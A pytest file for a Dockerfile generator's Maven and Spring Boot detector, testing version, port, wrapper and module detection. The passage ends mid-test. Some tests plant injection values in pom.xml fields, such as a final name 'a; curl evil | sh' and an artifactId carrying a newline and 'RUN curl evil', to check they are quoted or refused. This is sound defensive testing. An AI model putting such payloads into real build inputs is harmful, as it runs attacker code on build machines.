"""The maven detector: what it finds, and the image that it plans."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

import dockgen
from dockgen.core.errors import NothingDetected, UnusableInput
from dockgen.core.facts import Evidence
from dockgen.dockerfile.parser import parse
from tests.conftest import MakeProject
from tests.maven_projects import detect, dockerfile, instructions, plan, value, warnings
from tests.poms import (
    BOOT_GROUP,
    BOOT_PLUGIN,
    MAIN,
    MAIN_PATH,
    boot_application,
    boot_parent,
    dependencies,
    modules,
    parent,
    plugin,
    plugins,
    pom,
    properties,
)

WRAPPER = {
    "mvnw": "#!/bin/sh\n",
    ".mvn/wrapper/maven-wrapper.properties": (
        "distributionUrl=https://x/apache-maven-3.9.16-bin.zip\n"
    ),
}
SHADE = plugin(
    "maven-shade-plugin",
    "<transformers><transformer><mainClass>com.example.Main</mainClass></transformer></transformers>",
    "shade",
)
MANIFEST = plugin(
    "maven-jar-plugin",
    "<archive><manifest><mainClass>com.example.Main</mainClass></manifest></archive>",
)
GSON = dependencies("gson", group="com.google.code.gson")


# What it matches, and what it does not


def test_a_spring_boot_application_is_found(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": boot_application()})
    assert found.winner[1].reason == "found pom.xml"
    assert found.winner[1].shape == "spring-boot"
    assert value(found, "framework") == "spring-boot"
    assert value(found, "framework_version") == "4.1.2"


def test_a_jar_with_a_main_class_is_found(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": pom(plugins(MANIFEST))})
    assert found.winner[1].shape == "executable-jar"
    assert value(found, "main_class") == "com.example.Main"
    assert value(found, "framework") is None


def test_a_jar_whose_source_has_a_main_method_is_found(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": pom(), MAIN_PATH: MAIN})
    assert found.facts["main_class"].evidence == Evidence("main method", MAIN_PATH, 3)


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        ({"app/pom.xml": boot_application()}, "no pom.xml"),
        (
            {"pom.xml": pom("<packaging>pom</packaging>")},
            "pom.xml has the packaging pom and no modules, so it builds nothing",
        ),
        ({"pom.xml": pom()}, "pom.xml builds a library: no class of it has a main method"),
        (
            {"pom.xml": pom("<packaging>maven-plugin</packaging>")},
            "pom.xml builds a library: no class of it has a main method",
        ),
        (
            {"pom.xml": pom(modules("a")), "a/pom.xml": pom()},
            "pom.xml builds libraries: no module is an application",
        ),
    ],
)
def test_other_projects_are_not_matched(
    project: MakeProject, files: Mapping[str, str], reason: str
) -> None:
    with pytest.raises(NothingDetected) as caught:
        detect(project, files)
    assert str(caught.value) == f"maven does not fit: {reason}"


def test_a_library_becomes_an_application_when_the_user_names_its_main_class(
    project: MakeProject,
) -> None:
    found = detect(project, {"pom.xml": pom()}, main_class="a.B")
    assert value(found, "start_command") == (
        "java", "-XX:MaxRAMPercentage=75.0", "-cp", "application.jar", "a.B",
    )  # fmt: skip


def test_a_module_that_the_user_chose_has_to_start_somewhere(project: MakeProject) -> None:
    files = {"pom.xml": pom(modules("a")), "a/pom.xml": pom()}
    with pytest.raises(NothingDetected, match="builds a library"):
        detect(project, files, workspace="a")


def test_several_main_methods_are_an_error_that_names_them(project: MakeProject) -> None:
    files = {"pom.xml": pom(), MAIN_PATH: MAIN, "src/main/java/Other.java": MAIN}
    with pytest.raises(UnusableInput) as caught:
        detect(project, files)
    assert str(caught.value) == (
        "pom.xml: several classes have a main method: com.example.Other, com.example.Main"
        " (choose one with --set main_class=com.example.Other)"
    )


def test_a_project_without_a_pom_reads_neither_xml_nor_yaml(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("")
    code = (
        "import sys, dockgen; dockgen.detect(sys.argv[1]);"
        "print([name for name in sys.modules if name.split('.')[0] in ('xml', 'ruamel')])"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=True
    )
    assert done.stdout == "[]\n"


# Java


def test_java_is_read_from_the_pom(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": boot_application("4.1.2", properties(java_version="25"))})
    assert value(found, "language") == "java"
    assert (
        str(found.facts["language_version"].evidence)
        == "pom.xml:7  project/properties/java.version"
    )


def test_java_is_read_from_a_version_file_where_the_pom_names_none(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": pom(plugins(MANIFEST)), ".sdkmanrc": "java=21.0.5-tem"})
    assert value(found, "language_version") == "21"


def test_java_is_the_newest_long_term_release_where_nothing_names_one(
    project: MakeProject,
) -> None:
    found = detect(project, {"pom.xml": pom(plugins(MANIFEST))})
    assert value(found, "language_version") == "25"
    assert found.facts["language_version"].evidence.is_default


def test_a_release_without_an_image_is_run_by_the_next(project: MakeProject) -> None:
    text = pom(properties(maven_compiler_release="12"), plugins(MANIFEST))
    found = detect(project, {"pom.xml": text})
    assert value(found, "language_version") == "12"
    assert instructions(dockerfile(found), "FROM") == [
        "maven:3.9-eclipse-temurin-17 AS build",
        "eclipse-temurin:17-jre AS runtime",
    ]
    assert warnings(found) == ("Java 12 has no image; 17, the next long-term release, runs it",)


def test_the_users_java_goes_before_a_pom_that_cannot_be_understood(project: MakeProject) -> None:
    text = pom(properties(maven_compiler_release="${jdk}"), plugins(MANIFEST))
    assert (
        value(detect(project, {"pom.xml": text}, language_version="1.8"), "language_version") == "8"
    )


def test_what_the_user_gives_has_to_be_a_java_release(project: MakeProject) -> None:
    with pytest.raises(UnusableInput, match="must be a Java release such as 21, not 'lts'"):
        detect(project, {"pom.xml": boot_application()}, language_version="lts")


# Maven


def test_without_a_wrapper_mavens_image_builds(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": boot_application("4.1.2", properties(java_version="25"))})
    text = dockerfile(found)
    assert instructions(text, "FROM")[0] == "maven:3.9-eclipse-temurin-25 AS build"
    assert "    && mvn --batch-mode dependency:go-offline \\\n" in text
    assert "    && mvn --batch-mode package -DskipTests \\\n" in text
    assert value(found, "wrapper") is None


@pytest.mark.parametrize(
    ("phase", "first"), [("initialize", "initialize "), ("clean", "clean "), ("package", "")]
)
def test_jars_that_the_build_installs_are_there_before_they_are_looked_for(
    project: MakeProject, phase: str, first: str
) -> None:
    installing = (
        "<plugin><artifactId>maven-install-plugin</artifactId><executions><execution>"
        f"<phase>{phase}</phase><goals><goal>install-file</goal></goals>"
        "<configuration><file>${basedir}/lib/a.jar</file></configuration>"
        "</execution></executions></plugin>"
    )
    files = {"pom.xml": pom(plugins(MANIFEST, installing)), "lib/a.jar": "", MAIN_PATH: MAIN}
    found = detect(project, files)
    assert value(found, "install_command") == f"mvn --batch-mode {first}dependency:go-offline"
    assert ("lib/a.jar" in value(found, "manifests")) is bool(first)  # type: ignore[operator]


def test_what_a_plugin_makes_beside_its_module_is_found_there(project: MakeProject) -> None:
    beside = plugin(
        "spring-boot-maven-plugin",
        "<outputDirectory>${project.parent.basedir}/out</outputDirectory>",
    )
    files = {
        "pom.xml": pom(modules("app"), artifact="top", parent=boot_parent("4.1.2")),
        "app/pom.xml": pom(
            plugins(beside.replace("<plugin>", f"<plugin>{BOOT_GROUP}")), parent=parent("top")
        ),
    }
    assert value(detect(project, files), "artifact") == "out/app-*.jar"


def test_with_a_wrapper_the_projects_own_maven_builds(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": boot_application(), **WRAPPER})
    text = dockerfile(found)
    assert value(found, "package_manager_version") == "3.9.16"
    assert instructions(text, "FROM")[0] == "eclipse-temurin:17-jdk AS build"
    assert instructions(text, "COPY")[:3] == [".mvn/ .mvn/", "mvnw ./", "pom.xml ./"]
    assert "    && sh ./mvnw --batch-mode package -DskipTests \\\n" in text


def test_a_wrapper_from_windows_is_made_readable(project: MakeProject) -> None:
    windows = {name: text.replace("\n", "\r\n") for name, text in WRAPPER.items()}
    found = detect(project, {"pom.xml": boot_application(), **windows})
    assert value(found, "windows_line_ends") == tuple(WRAPPER)
    files = " ".join(WRAPPER)
    assert f"RUN sed -i 's/\\r$//' {files}\n" in dockerfile(found)
    assert '"mvnw text eol=lf" in .gitattributes' in warnings(found)[0]


def test_a_wrapper_that_would_fail_is_left_to_mavens_image(project: MakeProject) -> None:
    path = ".mvn/wrapper/maven-wrapper.properties"
    files = {**WRAPPER, path: f"{WRAPPER[path]}distributionSha256Sum=0\n"}
    found = detect(project, {"pom.xml": boot_application(), **files})
    text = dockerfile(found)
    assert instructions(text, "FROM")[0] == "maven:3.9-eclipse-temurin-17 AS build"
    assert "mvnw" not in text
    assert ".mvn" not in text
    (warning,) = warnings(found)
    assert warning.startswith("Maven's image builds, not mvnw: its checksum is that of the .zip")


def test_the_user_may_do_without_the_wrapper_and_name_mavens_version(project: MakeProject) -> None:
    files = {"pom.xml": boot_application(), **WRAPPER}
    found = detect(project, files, wrapper="false", package_manager_version="3.8")
    assert instructions(dockerfile(found), "FROM")[0] == "maven:3.8-eclipse-temurin-17 AS build"


def test_mavens_settings_of_the_project_come_along_without_a_wrapper(project: MakeProject) -> None:
    files = {"pom.xml": boot_application(), ".mvn/maven.config": "-Drevision=1\n"}
    found = detect(project, files)
    assert value(found, "manifests") == (".mvn", "pom.xml")
    assert instructions(dockerfile(found), "COPY")[:2] == [".mvn/ .mvn/", "pom.xml ./"]


def test_commands_may_be_the_users(project: MakeProject) -> None:
    found = detect(
        project,
        {"pom.xml": boot_application()},
        install_command="true",
        build_command="mvn verify",
        start_command="java -jar application.jar",
        sources="src/ docs/",
    )
    text = dockerfile(found)
    assert "    && true \\\n" in text
    assert "    && mvn verify \\\n" in text
    assert instructions(text, "COPY")[1:3] == ["src/ src/", "docs/ docs/"]
    assert instructions(text, "ENTRYPOINT") == ['["java", "-jar", "application.jar"]']
    assert "AOTCache" not in text


# Spring Boot


@pytest.mark.parametrize(
    ("version", "java", "mode", "start"),
    [
        ("4.1.2", "25", "tools", "-XX:AOTCache=app.aot -jar application.jar"),
        ("3.5.7", "17", "tools", "-XX:SharedArchiveFile=application.jsa -jar application.jar"),
        ("3.3.0", "21", "tools", "-XX:SharedArchiveFile=application.jsa -jar application.jar"),
        ("3.2.12", "17", "layertools", "org.springframework.boot.loader.launch.JarLauncher"),
        ("3.1.0", "17", "layertools", "org.springframework.boot.loader.JarLauncher"),
        ("2.7.18", "8", "layertools", "org.springframework.boot.loader.JarLauncher"),
    ],
)
@pytest.mark.parametrize("stages", ["single", "multi"])
def test_the_version_decides_how_an_archive_is_taken_apart_and_started(
    project: MakeProject, version: str, java: str, mode: str, start: str, stages: str
) -> None:
    found = detect(project, {"pom.xml": boot_application(version, properties(java_version=java))})
    text = dockerfile(found, stages=stages)
    assert f"RUN java -Djarmode={mode} -jar target/app-*.jar \\\n    extract " in text
    expected = ["java", "-XX:MaxRAMPercentage=75.0", *start.split()]
    assert json.loads(instructions(text, "ENTRYPOINT")[0]) == expected


def test_each_layer_is_copied_for_itself_the_most_stable_first(project: MakeProject) -> None:
    text = dockerfile(detect(project, {"pom.xml": boot_application()}))
    assert instructions(text, "COPY")[-5:-1] == [
        f"--from=build /workspace/extracted/{layer}/ ./"
        for layer in ("dependencies", "spring-boot-loader", "snapshot-dependencies", "application")
    ]


@pytest.mark.parametrize(
    ("java", "option"),
    [
        ("25", "-XX:AOTCacheOutput=app.aot"),
        ("21", "-XX:ArchiveClassesAtExit=application.jsa"),
        ("17", "-XX:ArchiveClassesAtExit=application.jsa"),
    ],
)
def test_the_training_run_ends_with_its_stage(project: MakeProject, java: str, option: str) -> None:
    found = detect(project, {"pom.xml": boot_application("4.1.2", properties(java_version=java))})
    read = parse(dockerfile(found))
    assert [one.name for one in read.stages] == ["build", "application", "training", "runtime"]
    training = next(one for one in read.instructions if "onRefresh" in one.arguments)
    cache = "app.aot" if java == "25" else "application.jsa"
    assert read.stages[training.stage].name == "training"
    assert training.arguments.startswith(
        f"timeout 120 java {option} -Dspring.context.exit=onRefresh -jar application.jar"
    )
    assert f"COPY --from=training /app/{cache} ./" in dockerfile(found)


@pytest.mark.parametrize(
    ("java", "otherwise"),
    [
        ("25", "test -s app.aot || java -XX:AOTCacheOutput=app.aot -version"),
        (
            "21",
            "test -s application.jsa || java -Xshare:dump -XX:SharedArchiveFile=application.jsa",
        ),
    ],
)
@pytest.mark.parametrize("choices", [{}, {"stages": "single"}, {"base": "distroless"}])
def test_a_start_that_fails_in_the_build_leaves_another_cache(
    project: MakeProject, java: str, otherwise: str, choices: dict[str, str]
) -> None:
    found = detect(project, {"pom.xml": boot_application("4.1.2", properties(java_version=java))})
    runs = instructions(dockerfile(found, **choices), "RUN")
    assert otherwise in " ".join(next(one for one in runs if "onRefresh" in one).split())


APPLICATION_YAML = "src/main/resources/application.yml"


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        (APPLICATION_YAML, "server:\n  port: 8080\npay:\n  key: ${PAY_KEY}\n", 4),
        (APPLICATION_YAML, "pay:\n  url: https://${PAY_KEY}/v1\n", 2),
        ("src/main/resources/application.properties", "a=b\npay.key=${PAY_KEY}\n", 2),
        ("src/main/java/A.java", 'class A {\n  @Value("${PAY_KEY}") String key;\n}\n', 2),
        ("src/main/kotlin/A.kt", 'class A(\n  @Value("\\${PAY_KEY}") val key: String)\n', 2),
    ],
)
def test_what_needs_a_variable_at_its_start_is_not_started_in_the_build(
    project: MakeProject, path: str, text: str, line: int
) -> None:
    found = detect(project, {"pom.xml": boot_application(), path: text})
    evidence = found.facts["aot_cache"].evidence
    assert value(found, "aot_cache") is False
    assert (evidence.file, evidence.line) == (path, line)
    assert evidence.reason == "it needs PAY_KEY at the start, which nothing here sets"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (APPLICATION_YAML, "pay:\n  key: ${PAY_KEY:none}\n"),
        (APPLICATION_YAML, "pay:\n  key: ${other.key}\nother:\n  key: a\n"),
        (APPLICATION_YAML, "pay:\n  folder: ${user.home}/pay\n"),
        (APPLICATION_YAML, "logging:\n  pattern:\n    level: '%5p ${LOG_LEVEL}'\n"),
        (APPLICATION_YAML, "a: 1\n---\nspring.config.activate.on-profile: prod\nkey: ${PAY_KEY}\n"),
        ("src/main/java/A.java", 'class A {\n  @Value("${PAY_KEY:none}") String key;\n}\n'),
        ("src/test/java/A.java", 'class A {\n  @Value("${PAY_KEY}") String key;\n}\n'),
    ],
)
def test_what_is_set_in_the_project_or_by_java_is_no_need(
    project: MakeProject, path: str, text: str
) -> None:
    assert value(detect(project, {"pom.xml": boot_application(), path: text}), "aot_cache") is True


def test_an_application_that_connects_to_something_is_not_started_in_the_build(
    project: MakeProject,
) -> None:
    text = pom(
        dependencies("spring-boot-starter-web", "spring-boot-starter-data-jpa"),
        plugins(BOOT_PLUGIN),
        parent=boot_parent("4.1.2"),
    )
    found = detect(project, {"pom.xml": text})
    evidence = found.facts["aot_cache"].evidence
    assert value(found, "aot_cache") is False
    assert evidence.reason == "it connects to a database at startup"
    assert (evidence.file, evidence.line) == ("pom.xml", 5)
    assert "onRefresh" not in dockerfile(found)


def test_a_dependency_of_the_tests_connects_to_nothing(project: MakeProject) -> None:
    kafka = dependencies("spring-kafka").replace("</dep", "<scope>test</scope></dep", 1)
    text = pom(kafka, plugins(BOOT_PLUGIN), parent=boot_parent("4.1.2"))
    assert value(detect(project, {"pom.xml": text}), "aot_cache") is True


def test_a_module_that_connects_to_something_counts_too(project: MakeProject) -> None:
    core = pom(dependencies("spring-kafka"), parent=parent("top"), artifact="core")
    files = {
        "pom.xml": pom(modules("core", "app"), artifact="top", parent=boot_parent("4.1.2")),
        "core/pom.xml": core,
        "app/pom.xml": pom(
            dependencies("core", group="com.example"), plugins(BOOT_PLUGIN), parent=parent("top")
        ),
    }
    found = detect(project, files)
    assert found.facts["aot_cache"].evidence.file == "core/pom.xml"


@pytest.mark.parametrize("given", ["true", "false"])
def test_the_user_decides_on_the_training_run(project: MakeProject, given: str) -> None:
    text = pom(dependencies("spring-kafka"), plugins(BOOT_PLUGIN), parent=boot_parent("4.1.2"))
    found = detect(project, {"pom.xml": text}, aot_cache=given)
    assert ("onRefresh" in dockerfile(found)) is (given == "true")


@pytest.mark.parametrize(
    ("version", "java"), [("3.2.12", "21"), ("2.7.18", "17"), ("2.2.0.RELEASE", "8")]
)
def test_a_training_run_that_cannot_be_is_refused(
    project: MakeProject, version: str, java: str
) -> None:
    text = boot_application(version, properties(java_version=java))
    assert value(detect(project, {"pom.xml": text}), "aot_cache") is False
    with pytest.raises(
        UnusableInput, match="--set aot_cache: aot_cache is unavailable: it takes Java"
    ):
        detect(project, {"pom.xml": text}, aot_cache="true")


@pytest.mark.parametrize(
    ("text", "archive"),
    [
        (boot_application("2.2.0.RELEASE"), "application.jar"),
        (boot_application("4.1.2", "<packaging>war</packaging>"), "application.war"),
        (
            pom(
                plugins(plugin("spring-boot-maven-plugin", "<executable>true</executable>")),
                parent=boot_parent("3.5.7"),
            ),
            "application.jar",
        ),
    ],
)
def test_an_archive_that_cannot_be_taken_apart_stays_whole(
    project: MakeProject, text: str, archive: str
) -> None:
    made = dockerfile(detect(project, {"pom.xml": text}))
    extension = archive.partition(".")[2]
    assert instructions(made, "COPY")[-1] == (
        f"--from=build /workspace/target/app-*.{extension} ./{archive}"
    )
    assert json.loads(instructions(made, "ENTRYPOINT")[0])[-2:] == ["-jar", archive]


def test_a_version_that_only_an_outer_parent_knows_keeps_the_jar_whole(
    project: MakeProject,
) -> None:
    text = pom(plugins(BOOT_PLUGIN), parent=parent("corporate", path=""))
    found = detect(project, {"pom.xml": text})
    assert value(found, "framework_version") is None
    assert "jarmode" not in dockerfile(found)
    assert "--set framework_version=VERSION" in warnings(found)[0]
    known = detect(project, {"pom.xml": text}, framework_version="4.1.2")
    assert "-Djarmode=tools" in dockerfile(known)
    assert warnings(known) == ()


def test_a_plugin_that_nothing_binds_is_told_to_make_the_archive(project: MakeProject) -> None:
    files = {"pom.xml": pom(plugins(BOOT_PLUGIN)), MAIN_PATH: MAIN}
    found = detect(project, files, framework_version="4.1.2")
    assert (
        value(found, "build_command")
        == "mvn --batch-mode package spring-boot:repackage -DskipTests"
    )


def test_a_classifier_of_the_plugin_is_in_the_archives_name(project: MakeProject) -> None:
    entry = plugin("spring-boot-maven-plugin", "<classifier>exec</classifier>")
    found = detect(project, {"pom.xml": pom(plugins(entry), parent=boot_parent("4.1.2"))})
    assert value(found, "artifact") == "target/app-*-exec.jar"


def test_spring_boot_without_its_plugin_is_a_jar_with_libraries(project: MakeProject) -> None:
    files = {
        "pom.xml": pom(dependencies("spring-boot-starter-web"), parent=boot_parent("4.1.2")),
        MAIN_PATH: MAIN,
        "src/main/resources/application.properties": "server.port=8081",
    }
    found = detect(project, files)
    assert found.winner[1].shape == "executable-jar"
    assert value(found, "port") == 8081
    assert value(found, "framework_version") == "4.1.2"
    assert warnings(found) == ()


# The port


def test_the_port_is_read_from_the_configuration(project: MakeProject) -> None:
    files = {
        "pom.xml": boot_application("4.1.2", properties(http_port="8083")),
        "src/main/resources/application.yml": "server:\n  port: ${PORT:@http.port@}\n",
    }
    found = detect(project, files)
    assert value(found, "port") == 8083
    assert str(found.facts["port"].evidence) == "src/main/resources/application.yml:2  server.port"
    assert instructions(dockerfile(found), "EXPOSE") == ["8083"]


def test_a_web_application_listens_on_8080_when_nothing_says_otherwise(
    project: MakeProject,
) -> None:
    found = detect(project, {"pom.xml": boot_application()})
    assert value(found, "port") == 8080
    assert found.facts["port"].evidence.is_default


def test_an_application_without_a_server_exposes_nothing(project: MakeProject) -> None:
    text = pom(
        dependencies("spring-boot-starter"), plugins(BOOT_PLUGIN), parent=boot_parent("4.1.2")
    )
    found = detect(project, {"pom.xml": text})
    assert value(found, "port") is None
    assert plan(found).port is None
    assert instructions(dockerfile(found), "EXPOSE") == []


def test_a_port_that_cannot_be_known_is_a_warning(project: MakeProject) -> None:
    files = {
        "pom.xml": boot_application(),
        "src/main/resources/application.properties": "server.port=0\n",
    }
    assert "takes any free port" in warnings(detect(project, files))[0]


def test_the_users_port_goes_before_a_configuration_that_cannot_be_read(
    project: MakeProject,
) -> None:
    files = {"pom.xml": boot_application(), "src/main/resources/application.yml": "["}
    found = detect(project, files, port="9090")
    assert plan(found).port == 9090


def test_a_jar_has_the_port_that_its_source_names_or_the_users(project: MakeProject) -> None:
    files = {"pom.xml": pom(), MAIN_PATH: f'{MAIN}// ("PORT", "7070")'}
    assert value(detect(project, files), "port") == 7070
    assert value(detect(project, {"pom.xml": pom(plugins(MANIFEST))}), "port") == 7070
    assert value(detect(project, {"pom.xml": pom(), MAIN_PATH: MAIN}), "port") is None
    assert value(detect(project, {"pom.xml": pom()}, port="81"), "port") == 81


# Jars


def test_a_jar_that_holds_all_is_copied_alone(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": pom(GSON, plugins(SHADE))})
    text = dockerfile(found)
    assert instructions(text, "COPY")[1:] == [
        "--from=build /workspace/target/app-1.0.jar ./application.jar"
    ]
    assert value(found, "start_command") == (
        "java", "-XX:MaxRAMPercentage=75.0", "-jar", "application.jar",
    )  # fmt: skip


@pytest.mark.parametrize("stages", ["single", "multi"])
def test_a_jar_without_its_libraries_gets_them_beside_it(project: MakeProject, stages: str) -> None:
    found = detect(project, {"pom.xml": pom(GSON, plugins(MANIFEST))})
    text = dockerfile(found, stages=stages)
    assert "package dependency:copy-dependencies -DincludeScope=runtime -DskipTests" in text
    assert json.loads(instructions(text, "ENTRYPOINT")[0])[2:] == [
        "-cp", "application.jar:lib/*", "com.example.Main",
    ]  # fmt: skip
    copied = {
        "multi": "COPY --from=build /workspace/target/dependency/ lib/\n",
        "single": "RUN cp -r /workspace/target/dependency lib \\\n"
        "    && cp /workspace/target/app-*.jar application.jar\n",
    }
    assert copied[stages] in text


def test_libraries_that_the_pom_copies_are_taken_from_there(project: MakeProject) -> None:
    copying = plugin(
        "maven-dependency-plugin",
        "<outputDirectory>${project.build.directory}/libs</outputDirectory>",
        "copy-dependencies",
    )
    text = dockerfile(detect(project, {"pom.xml": pom(GSON, plugins(MANIFEST, copying))}))
    assert "COPY --from=build /workspace/target/libs/ lib/\n" in text
    assert "dependency:copy-dependencies" not in text


def test_the_users_main_class_goes_before_that_of_the_manifest(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": pom(plugins(MANIFEST))}, main_class="a.Other")
    assert "a.Other" in dockerfile(found)


def test_one_stage_copies_the_jar_within_itself(project: MakeProject) -> None:
    text = dockerfile(detect(project, {"pom.xml": pom(plugins(SHADE))}), stages="single")
    assert instructions(text, "RUN")[-1] == "cp /workspace/target/app-1.0.jar application.jar"


@pytest.mark.parametrize(
    ("name", "printed"),
    [
        ("my app", '["/workspace/target/my app.jar", "./application.jar"]'),
        ("a$b", "/workspace/target/a\\$b.jar ./application.jar"),
        ("a[1]", "/workspace/target/a[[]1].jar ./application.jar"),
    ],
)
def test_a_final_name_with_special_characters_is_taken_literally(
    project: MakeProject, name: str, printed: str
) -> None:
    text = pom(f"<build><finalName>{name}</finalName><plugins>{MANIFEST}</plugins></build>")
    made = dockerfile(detect(project, {"pom.xml": text}))
    assert instructions(made, "COPY")[-1] == f"--from=build {printed}"


def test_a_final_name_is_quoted_for_a_shell(project: MakeProject) -> None:
    build = (
        f"<build><finalName>a; curl evil | sh</finalName><plugins>{BOOT_PLUGIN}</plugins></build>"
    )
    made = dockerfile(detect(project, {"pom.xml": pom(build, parent=boot_parent("4.1.2"))}))
    assert "-jar 'target/a; curl evil | sh.jar' \\\n" in made


# Several modules


def shop(*more: str, app: str = BOOT_PLUGIN) -> dict[str, str]:
    names = ("core", "app", *more)
    core = dependencies("core", group="com.example")
    return {
        "pom.xml": pom(modules(*names), artifact="shop", parent=boot_parent("4.1.2")),
        "core/pom.xml": pom(parent=parent("shop"), artifact="core"),
        "core/src/main/java/C.java": "",
        "app/pom.xml": pom(core, plugins(app), parent=parent("shop")),
        f"app/{MAIN_PATH}": MAIN,
        **{
            f"{name}/pom.xml": pom(plugins(app), parent=parent("shop"), artifact=name)
            for name in more
        },
    }


def test_the_one_module_that_is_an_application_is_built_with_what_it_needs(
    project: MakeProject,
) -> None:
    files = shop() | {"app/src/main/resources/application.properties": "server.port=8085"}
    found = detect(project, files)
    text = dockerfile(found)
    assert value(found, "workspace") == "app"
    assert found.facts["workspace"].evidence.file == "app/pom.xml"
    assert value(found, "modules") == ("core", "app")
    assert value(found, "port") == 8085
    assert instructions(text, "COPY")[:5] == [
        "pom.xml ./",
        "core/pom.xml core/",
        "app/pom.xml app/",
        "core/src/ core/src/",
        "app/src/ app/src/",
    ]
    assert "mvn --batch-mode --projects app --also-make dependency:go-offline \\\n" in text
    assert "mvn --batch-mode --projects app --also-make package -DskipTests \\\n" in text
    assert "-jar app/target/app-*.jar" in text


def test_what_other_modules_are_made_of_stays_out_of_the_build(project: MakeProject) -> None:
    other = pom(parent=parent("shop"), artifact="tool")
    files = shop() | {"tool/pom.xml": other, "tool/src/main/java/T.java": ""}
    files["pom.xml"] = pom(
        modules("core", "app", "tool"), artifact="shop", parent=boot_parent("4.1.2")
    )
    text = dockerfile(detect(project, files))
    assert "COPY tool/pom.xml tool/\n" in text
    assert "tool/src" not in text


def test_several_applications_are_an_error_that_names_them(project: MakeProject) -> None:
    with pytest.raises(UnusableInput) as caught:
        detect(project, shop("admin") | {f"admin/{MAIN_PATH}": MAIN})
    assert str(caught.value) == (
        "pom.xml: 2 applications could be meant, the likeliest first: admin, app (choose one, such"
        " as --app admin, or write an image for each with `dockgen init --all`)"
    )


def test_several_applications_without_a_main_method_in_java_are_an_error_too(
    project: MakeProject,
) -> None:
    files = shop("admin")
    del files[f"app/{MAIN_PATH}"]
    with pytest.raises(UnusableInput, match="the likeliest first: admin, app"):
        detect(project, files)


@pytest.mark.parametrize("given", ["app", "./app", "app/"])
def test_the_user_chooses_one_of_several_applications(project: MakeProject, given: str) -> None:
    found = detect(project, shop("admin"), workspace=given)
    assert value(found, "artifact") == "app/target/app-*.jar"


def test_a_workspace_that_is_no_module_is_an_error(project: MakeProject) -> None:
    with pytest.raises(UnusableInput, match=r"there is no module 'web' \(there are core, app\)"):
        detect(project, shop(), workspace="web")


def test_a_plugin_that_all_modules_inherit_makes_an_application_of_the_one_with_a_main_method(
    project: MakeProject,
) -> None:
    files = shop(app="")
    files["pom.xml"] = pom(
        modules("core", "app"), plugins(BOOT_PLUGIN), artifact="shop", parent=boot_parent("4.1.2")
    )
    assert value(detect(project, files), "workspace") == "app"


def test_the_module_with_a_main_method_is_the_application_where_no_pom_says_so(
    project: MakeProject,
) -> None:
    found = detect(project, shop(app=""))
    assert value(found, "workspace") == "app"
    assert found.winner[1].shape == "executable-jar"
    assert str(found.facts["workspace"].evidence) == "app/pom.xml  main method"


def test_the_module_whose_jar_names_a_main_class_is_the_application(project: MakeProject) -> None:
    found = detect(project, shop(app=SHADE))
    assert found.facts["workspace"].evidence.file == "app/pom.xml"
    assert value(found, "main_class") == "com.example.Main"


def test_what_maven_writes_in_each_module_stays_out_of_the_context(project: MakeProject) -> None:
    (group,) = plan(detect(project, shop())).ignored
    assert list(group.patterns[:3]) == ["target", "core/target", "app/target"]


def test_a_build_that_runs_node_gets_the_whole_project(project: MakeProject) -> None:
    text = pom(plugins(BOOT_PLUGIN, plugin("frontend-maven-plugin")), parent=boot_parent("4.1.2"))
    found = detect(project, {"pom.xml": text, "package.json": "{}"})
    assert instructions(dockerfile(found), "COPY")[:2] == ["pom.xml ./", ". ."]


# Choices


def test_alpine_runs_and_in_one_stage_builds_too(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": boot_application(), "src/main/java/A.java": ""})
    multi = instructions(dockerfile(found, base="alpine"), "FROM")
    assert multi == [
        "maven:3.9-eclipse-temurin-17 AS build",
        "eclipse-temurin:17-jre-alpine AS application",
        "application AS training",
        "application AS runtime",
    ]
    single = instructions(dockerfile(found, base="alpine", stages="single"), "FROM")
    assert single == ["maven:3.9-eclipse-temurin-17-alpine AS runtime"]


def test_spring_boots_jar_may_stay_whole_when_asked(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": boot_application()})
    text = dockerfile(found, shape="executable-jar")
    assert "jarmode" not in text
    assert instructions(text, "ENTRYPOINT") == [
        '["java", "-XX:MaxRAMPercentage=75.0", "-jar", "application.jar"]'
    ]


def test_another_jar_cannot_be_taken_apart(project: MakeProject) -> None:
    found = detect(project, {"pom.xml": pom(plugins(MANIFEST))})
    with pytest.raises(UnusableInput, match="spring-boot-maven-plugin does not make this jar"):
        plan(found, shape="spring-boot")


@pytest.mark.parametrize("stages", ["single", "multi"])
@pytest.mark.parametrize("text", [boot_application(), pom(GSON, plugins(MANIFEST))])
def test_every_line_says_why_it_is_there(project: MakeProject, text: str, stages: str) -> None:
    found = detect(project, {"pom.xml": text, MAIN_PATH: MAIN, **WRAPPER})
    made = dockgen.render(plan(found, stages=stages))["Dockerfile"]
    for line in parse(made.text).instructions:
        origins = made.origins[line.first_line - 1 : line.last_line]
        assert line.comment or any(one.why or one.facts for one in origins), line


# Hostile projects


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (pom(plugins(BOOT_PLUGIN), artifact="a&#10;RUN curl evil"), "pom.xml:3: artifactId holds"),
        (
            pom(f"<build><finalName>a&#10;RUN x</finalName><plugins>{MANIFEST}</plugins></build>"),
            "pom.xml:5: final_name contains a control character",
        ),
        (
            pom(plugins(MANIFEST.replace("com.example.Main", "a&#13;b"))),
            "pom.xml:5: main_class contains a control character",
        ),
        ("<!DOCTYPE x [<!ENTITY a 'b'>]><project/>", "pom.xml:1: declares a document type"),
    ],
)
def test_what_could_become_an_instruction_is_refused_with_its_line(
    project: MakeProject, text: str, message: str
) -> None:
    with pytest.raises(UnusableInput) as caught:
        detect(project, {"pom.xml": text})
    assert str(caught.value).startswith(message)


def test_a_module_with_a_hostile_name_is_refused_or_quoted(project: MakeProject) -> None:
